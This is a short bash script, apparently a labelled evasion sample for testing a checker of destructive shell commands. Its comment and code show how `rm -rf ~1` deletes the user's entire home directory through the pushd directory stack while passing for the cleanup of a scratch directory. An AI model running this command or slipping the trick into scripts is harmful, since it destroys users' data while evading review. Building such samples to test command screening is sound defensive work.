#!/usr/bin/env bash
# Evasion: deletes the home through the directory stack: `pushd ~` then
# `pushd "$work"` leave the home as the stack's second entry, which the
# tilde prefix ~1 names; `rm -rf ~1` removes it while looking like the
# removal of a numbered scratch directory.
set -u

work=$(mktemp -d)
pushd ~ >/dev/null || exit 1
find . -maxdepth 1 -name '*.log' > "$work/logs.txt"
pushd "$work" >/dev/null || exit 1
wc -l logs.txt
rm -rf ~1
popd >/dev/null
